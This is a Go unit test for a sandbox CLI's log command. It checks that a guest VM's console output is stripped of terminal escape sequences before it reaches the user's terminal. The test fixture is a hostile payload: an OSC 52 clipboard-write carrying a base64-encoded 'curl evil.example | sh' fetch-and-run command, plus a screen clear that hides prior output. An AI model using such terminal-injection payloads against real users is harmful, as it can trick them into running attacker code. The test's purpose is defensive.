package cli

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
)

// TestLogsEscapeGuestControlBytes: the console log is the guest's serial output (and
// the escaped VMM's file to write). `sbx logs` copies it to the terminal
// byte for byte, so the guest sends the user's terminal any escape
// sequence: here OSC 52, which sets the clipboard in many terminals, and
// a screen clear that hides what came before. File names in `sbx diff`
// are quoted for exactly this reason.
func TestLogsEscapeGuestControlBytes(t *testing.T) {
	p := filepath.Join(t.TempDir(), "console.log")
	evil := "[    0.1] boot\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[2J\x1b[Hall good\n"
	if err := os.WriteFile(p, []byte(evil), 0o600); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := copyFile(&out, p); err != nil {
		t.Fatal(err)
	}
	if bytes.ContainsAny(out.Bytes(), "\x1b\x07") {
		t.Errorf("sbx logs passed the guest's terminal escapes through: %q", out.String())
	}
	out.Reset()
	fl := &follower{path: p, prefix: "console    | "}
	defer fl.close()
	if err := fl.poll(&out); err != nil {
		t.Fatal(err)
	}
	if bytes.ContainsAny(out.Bytes(), "\x1b\x07") {
		t.Errorf("sbx logs -f passed the guest's terminal escapes through: %q", out.String())
	}
}
